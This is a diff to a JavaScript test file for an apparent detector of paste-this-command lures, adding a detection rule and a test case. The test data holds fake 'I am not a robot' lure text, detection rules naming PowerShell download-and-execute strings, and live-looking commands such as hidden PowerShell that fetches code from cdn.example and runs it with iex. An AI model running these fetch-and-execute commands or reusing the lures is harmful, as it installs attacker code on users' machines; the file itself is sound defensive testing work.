@@ -191,6 +191,7 @@ test('who reports an attack or looks for it quotes commands that do nothing', ()
     `Human verification on the page named Win+R, then paste. Second stage:\npowershell -w hidden -enc ${CODED.slice(0, 40)}... (cut)`,
     'Seen in the key of the Run dialog (Win + R, Ctrl + V, "I am not a robot"): a[.]example, value "powershell -w hidden ..."',
     'rule Lure {\n  strings:\n    $a = "Win + R"\n    $b = "not a robot"\n    $c = "Ctrl + V to paste"\n    $d = "powershell -w hidden" ascii wide\n    $e = "mshta http" ascii wide\n}',
+    'rule Lure {\n  strings:\n    $a = "not a robot" nocase\n    $b = "Win + R, Ctrl + V to paste"\n    $c = /iex\\s*\\(?\\s*(irm|iwr)\\s/ nocase\n    $d = "IEX(New-Object Net.WebClient).DownloadString" ascii wide // first stage\n}',
     "selection:\n  - 'not a robot'\n  - 'Win + R, paste'\n  - 'DownloadString('\n  - '| iex'\n  - 'powershell -w hidden -enc '",
   ])
     assert.equal(pastedCommand(text), null, text)
@@ -216,6 +217,7 @@ test('but a command that acts is one, whatever stands beside it', () => {
     `powershell -w hidden -enc ${CODED}`,
     '"powershell" -w hidden -c "irm cdn.example/a|iex"',
     'mshta cdn.example/verify',
+    '$a = "powershell -w hidden -c irm cdn.example/a"; iex $a',
   ])
     assert.notEqual(pastedCommand(`${LURE}\n${command}`), null, command)
 })
